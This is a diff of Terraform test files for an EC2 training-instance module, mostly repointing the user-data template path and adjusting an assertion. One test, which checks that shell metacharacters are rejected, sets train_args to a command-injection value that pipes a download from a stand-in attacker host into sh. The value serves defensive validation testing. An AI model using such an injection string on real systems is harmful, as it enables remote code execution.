@@ -106,7 +106,7 @@ run "ec2_trainer_is_hardened" {
 
   variables {
     name               = "dogbreed"
-    user_data_template = "tests/fixtures/user_data.sh.tftpl"
+    user_data_template = "../ec2/user_data.sh.tftpl"
     data_s3_uri        = "s3://dogbreed-123456789012-eu-west-1/data/dogImages/"
     train_args         = "--epochs 10 --batch-size 64"
     use_spot           = true
@@ -133,7 +133,7 @@ run "ec2_trainer_is_hardened" {
     error_message = "Without ami_id the Deep Learning AMI must be resolved through SSM."
   }
   assert {
-    condition = alltrue([for fragment in ["s3://dogbreed-123456789012-eu-west-1/code/", "s3://dogbreed-123456789012-eu-west-1/data/dogImages/", "s3://dogbreed-123456789012-eu-west-1/ec2-runs/", "--epochs 10 --batch-size 64"] :
+    condition = alltrue([for fragment in ["s3://dogbreed-123456789012-eu-west-1/code/", "s3://dogbreed-123456789012-eu-west-1/data/dogImages/", "s3://dogbreed-123456789012-eu-west-1/ec2-runs/", base64encode("--epochs 10 --batch-size 64")] :
     strcontains(base64decode(aws_instance.this.user_data_base64), fragment)])
     error_message = "The user data must be rendered with code_s3_uri, data_s3_uri, output_s3_uri and train_args."
   }
@@ -149,7 +149,7 @@ run "ec2_trainer_uses_an_explicit_ami" {
   variables {
     name               = "dogbreed"
     ami_id             = "ami-0123456789abcdef0"
-    user_data_template = "tests/fixtures/user_data.sh.tftpl"
+    user_data_template = "../ec2/user_data.sh.tftpl"
     data_s3_uri        = "s3://dogbreed-123456789012-eu-west-1/data/dogImages/"
   }
 
@@ -168,7 +168,7 @@ run "ec2_trainer_rejects_shell_metacharacters_in_train_args" {
 
   variables {
     name               = "dogbreed"
-    user_data_template = "tests/fixtures/user_data.sh.tftpl"
+    user_data_template = "../ec2/user_data.sh.tftpl"
     data_s3_uri        = "s3://dogbreed-123456789012-eu-west-1/data/dogImages/"
     train_args         = "--epochs 1; curl evil.example | sh"
   }
